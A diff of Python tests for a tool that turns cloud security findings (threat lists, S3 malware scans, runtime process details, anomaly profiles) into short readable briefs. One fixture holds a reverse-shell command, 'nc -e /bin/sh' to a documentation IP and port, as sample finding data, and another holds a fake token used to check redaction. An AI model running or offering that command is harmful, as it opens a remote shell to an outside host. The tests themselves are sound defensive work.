@@ -66,6 +66,10 @@ def test_what_is_cut_is_said_to_be_cut() -> None:
         {"threatListName": f"list {number}", "threatFileSha256": "ab"} for number in range(6)
     ]})  # fmt: skip
     assert MORE not in lines(brief_in(event), "Known threat")
+    event = _with(evidence={"threatIntelligenceDetails": [{"threatListName": f"list {one}"} for one in range(7)]})
+    assert lines(brief_in(event), "Known threat")[-1] == MORE
+    event = _with(evidence={"threatIntelligenceDetails": {"threatNames": [f"t{one}" for one in range(8)]}})
+    assert lines(brief_in(event), "Known threat") == [("Threat", "t0, t1, t2, t3, t4, t5 and 2 more")]
     behaviour = {f"who{one}": {f"what{two}": {"observed": "x"} for two in range(6)} for one in range(6)}
     event = _with(detection={"anomaly": {"unusual": {"behavior": behaviour}}})
     assert lines(brief_in(event), "Unusual")[-1] == MORE
@@ -128,11 +132,32 @@ def test_malware_on_a_volume_is_told_by_threat_file_and_hash() -> None:
 def test_malware_in_an_object_is_told_by_threat_item_and_hash() -> None:
     brief = brief_in(malware_in_object())
     assert lines(brief, "Malware") == [
+        ("Object", "in/cv.pdf (version s3Xk2vT9mQ4rB7nW1pZ6cY8dF5gH0jLa)"),
         ("Threat", "EICAR-Test-File (BITDEFENDER, 1 item)"),
         ("SHA-256", "cd" * 32),
         ("Item", f"in/cv.pdf ({'cd' * 32})"),
         ("Scan", "on demand, full scan"),
     ]
+
+
+def test_of_many_objects_the_first_are_named_and_the_others_counted() -> None:
+    event = malware_in_object()
+    event["detail"]["resource"]["s3BucketDetails"][0]["s3ObjectDetails"] = [
+        {"objectArn": "arn:aws:s3:::uploads/a", "versionId": "null"},
+        {"key": "token=hunter2hunter2", "versionId": None},
+        {"eTag": "neither key nor ARN"},
+        *({"key": f"in/{number}"} for number in range(6)),
+    ]
+    told = [value for label, value in lines(brief_in(event), "Malware") if label == "Object"]
+    assert told == ["arn:aws:s3:::uploads/a", "token=(hidden)", "in/0", "in/1", "in/2", "and 3 more"]
+
+
+def test_an_object_without_a_scan_is_told_and_not_called_malware() -> None:
+    event = malware_in_object()
+    del event["detail"]["service"]["malwareScanDetails"]
+    brief = brief_in(event)
+    assert lines(brief, "Malware") == []
+    assert lines(brief, "Object") == [("Object", "in/cv.pdf (version s3Xk2vT9mQ4rB7nW1pZ6cY8dF5gH0jLa)")]
 
 
 def _with(**service: object) -> Event:
@@ -153,6 +178,58 @@ def test_a_process_is_told_by_its_path_and_hash_and_who_started_it() -> None:
     ]  # fmt: skip
 
 
+def test_times_of_a_process_are_told_as_people_read_them_and_none_of_what_surrounds_it_is_left_out() -> None:
+    context = {
+        "modifiedAt": 1693943450, "modifyingProcess": {"name": "vi"}, "targetProcess": {"executablePath": "/bin/x"},
+        "scriptPath": "/opt/a.sh", "libraryPath": "/opt/a.so", "ldPreloadValue": "a.so", "socketPath": "/run/a",
+        "mountSource": "/proc", "moduleSha256": "ab" * 32, "ianaProtocolNumber": 6, "flags": ["a", "b", "c", "d"],
+        "commandLineExample": "nc -e /bin/sh 203.0.113.9 4444",
+    }  # fmt: skip
+    lineage = [{"name": f"p{number}"} for number in range(8)]
+    brief = brief_in(_with(runtimeDetails={"process": {"lineage": lineage}, "context": context}))
+    assert lines(brief, "Process") == [
+        ("Started by", "p0 / p1 / p2 / p3 / p4 / p5 and 2 more"), ("Modified by", "vi"), ("Target", "/bin/x"),
+        ("Modified at", "2023-09-05 19:50:50 UTC"), ("Script path", "/opt/a.sh"), ("Library path", "/opt/a.so"),
+        ("Ld preload value", "a.so"), ("Socket path", "/run/a"), ("Mount source", "/proc"),
+        ("Module sha256", "ab" * 32), ("Iana protocol number", "6"), ("Flags", "a"), ("Flags", "b"), ("Flags", "c"),
+        ("And", "1 more flags"), ("Command line example", "nc -e /bin/sh 203.0.113.9 4444"),
+    ]  # fmt: skip
+
+
+def test_an_anomaly_is_told_by_what_was_seen_and_behind_it_how_seldom_it_is() -> None:
+    apis = ["ListUsers", "ListRoles", "GetAccountAuthorizationDetails", "ListAccessKeys"]
+    behaviour = {
+        "Account Profile": {
+            "api": {"profileType": "FREQUENCY", "profileSubtype": "RARE", "observations": {"text": apis}},
+            "asnOrg": {
+                "profileType": "FREQUENCY",
+                "profileSubtype": "UNSEEN",
+                "observations": {"text": ["ExampleNet"]},
+            },
+            "bytes": {"profileType": "VOLUME", "observations": {"number": [7, 1.5, None]}},
+            "userAgent": {"profileType": "FREQUENCY", "profileSubtype": "INFREQUENT"},
+            "bucket": {"observations": {"text": [f"b{one}" for one in range(6)], "number": "x"}},
+            "odd": "text",
+            "more": {},
+            "most": {},
+        },
+        "Empty": None,
+    }
+    event = _with(detection={"anomaly": {"profiles": {"x": {}}, "unusual": {"behavior": behaviour}}})
+    assert lines(brief_in(event), "Unusual") == [
+        ("Account profile", "API: ListUsers, ListRoles, GetAccountAuthorizationDetails, ListAccessKeys (rare)"),
+        ("Account profile", "ASN org: ExampleNet (unseen)"),
+        ("Account profile", "bytes: 7, 1.5"),
+        ("Account profile", "user agent (infrequent)"),
+        ("Account profile", "bucket: b0, b1, b2, b3 and 2 more"),
+        ("Account profile", "odd"),
+        ("Account profile", "and 2 more"),
+    ]
+    many: Event = {f"who{one}": {"api": {}} for one in range(7)}
+    event = _with(detection={"anomaly": {"unusual": {"behavior": many}}})
+    assert lines(brief_in(event), "Unusual")[5:] == [("Who5", "API"), MORE]
+
+
 def test_an_anomaly_and_a_threat_list_are_told() -> None:
     brief = brief_in(
         _with(
@@ -162,7 +239,7 @@ def test_an_anomaly_and_a_threat_list_are_told() -> None:
             evidence={"threatIntelligenceDetails": [{"threatListName": "ProofPoint", "threatNames": ["scanner"]}]},
         )
     )
-    assert lines(brief, "Unusual") == [("CALLER", "api: CopyObject")]
+    assert lines(brief, "Unusual") == [("CALLER", "API: CopyObject")]
     assert lines(brief, "Known threat") == [("Threat list", "ProofPoint: scanner")]
 
 
